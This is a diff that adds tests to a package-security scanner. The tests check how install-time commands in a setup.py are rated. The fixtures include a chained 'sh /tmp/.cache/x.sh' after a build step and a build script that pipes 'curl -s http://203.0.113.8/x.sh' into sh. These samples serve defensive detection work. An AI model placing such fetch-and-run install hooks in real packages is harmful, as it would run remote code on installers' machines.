@@ -14,7 +14,7 @@ import re
 
 from app.core.archive import open_artifact
 from app.core.capabilities.scan import scan_artifact
-from tests.core.archive.fixtures import make_wheel, wheel_entries, zip_bytes
+from tests.core.archive.fixtures import make_sdist, make_wheel, wheel_entries, zip_bytes
 
 HIGH = ("high", "critical")
 
@@ -414,3 +414,61 @@ def test_duplicate_names_in_a_sample_wrapped_in_a_zip_stay_high(tmp_path):
     wrapper.write_bytes(zip_bytes({"gizmo-1.0-py3-none-any.whl": zip_bytes(entries)}))
     res = scan_artifact(open_artifact(wrapper))
     assert "mismatch.ambiguous_archive" in _ids(res)
+
+
+# ---------------------------------------- setup.py running a shipped script in its folder
+
+BUNDLED_BUILD_SETUP = b"""import os
+import sys
+from setuptools import setup, Extension
+
+building = any(a.startswith(('build', 'bdist', 'install')) for a in sys.argv[1:])
+if building and not os.path.exists('lib/libreadline.a'):
+    if '-q' in sys.argv:
+        os.system('cd rl && /bin/bash ./build.sh > /dev/null 2>&1')
+    else:
+        os.system('cd rl && /bin/bash ./build.sh')
+
+setup(name='gizmo', version='1.0', ext_modules=[Extension('gizmo', ['gizmo.c'])])
+"""
+BUILD_SH = b"""#!/bin/sh
+tar xzf readline-6.2.tar.gz
+cd readline-6.2 && ./configure --disable-shared && make
+"""
+
+
+def _sdist(tmp_path, files):
+    return scan_artifact(open_artifact(make_sdist(tmp_path, name="gizmo", files=files)))
+
+
+def test_setup_py_running_its_bundled_build_script_in_its_folder_is_judged_by_the_script(
+    tmp_path,
+):
+    """A C extension's setup.py builds the library it bundles with ``cd rl && /bin/bash
+    ./build.sh`` (quietly with ``> /dev/null 2>&1``): the script ships in the sdist and is
+    read; the start is the build, judged by what the script does."""
+    res = _sdist(tmp_path, {"setup.py": BUNDLED_BUILD_SETUP, "rl/build.sh": BUILD_SH})
+    starts = [h for h in res.findings if h.rule == "py.spawn_own_script"]
+    assert starts and all(h.severity == "medium" for h in starts)
+    assert "place.install_time" not in _ids(res)
+    assert res.risk.level not in HIGH
+
+
+def test_the_same_start_of_a_script_the_sdist_does_not_ship_stays_an_install_time_act(tmp_path):
+    """The twin: ``rl/build.sh`` is not in the sdist (written or fetched at install)."""
+    res = _sdist(tmp_path, {"setup.py": BUNDLED_BUILD_SETUP})
+    assert "place.install_time" in _ids(res)
+
+
+def test_a_second_command_chained_after_the_script_stays_an_install_time_act(tmp_path):
+    """The twin: a shell line that changes folder, runs the script and then something else."""
+    setup_py = BUNDLED_BUILD_SETUP.replace(b"./build.sh')", b"./build.sh && sh /tmp/.cache/x.sh')")
+    res = _sdist(tmp_path, {"setup.py": setup_py, "rl/build.sh": BUILD_SH})
+    assert "place.install_time" in _ids(res)
+
+
+def test_a_shipped_script_that_pipes_a_download_into_a_shell_stays_high(tmp_path):
+    """The twin: the script setup.py starts is read, and what it does keeps its severity."""
+    evil = b"#!/bin/sh\ncurl -s http://203.0.113.8/x.sh | sh\n"
+    res = _sdist(tmp_path, {"setup.py": BUNDLED_BUILD_SETUP, "rl/build.sh": evil})
+    assert res.risk.level in HIGH
